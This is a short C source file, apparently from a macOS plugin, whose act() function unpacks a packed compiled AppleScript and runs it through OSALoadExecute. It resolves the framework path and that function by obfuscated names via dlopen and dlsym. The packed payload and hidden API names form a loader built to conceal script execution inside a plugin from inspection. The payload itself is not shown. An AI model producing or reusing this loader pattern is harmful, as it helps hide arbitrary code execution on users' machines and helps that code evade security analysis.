/* Carries a compiled script in some form, and gives it to a function of the Open
 * Scripting Architecture that it gets by a hidden name. */
#include "plugin.h"
#include "hidden.h" /* 0: the framework, 1: OSALoadExecute */
#include "packed.h" /* packed[], and unpack() */
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
struct descriptor { unsigned type; void **data; };
static void act(char **env) {
    static unsigned char script[4096];
    unpack(script);
    void *handle = script;
    struct descriptor d = {0x73637074, &handle};
    int (*run)(void *, const struct descriptor *, unsigned, int, unsigned *) = dlsym(dlopen(hidden0(), 1), hidden1());
    unsigned id;
    run(0, &d, 0, 0, &id);
}
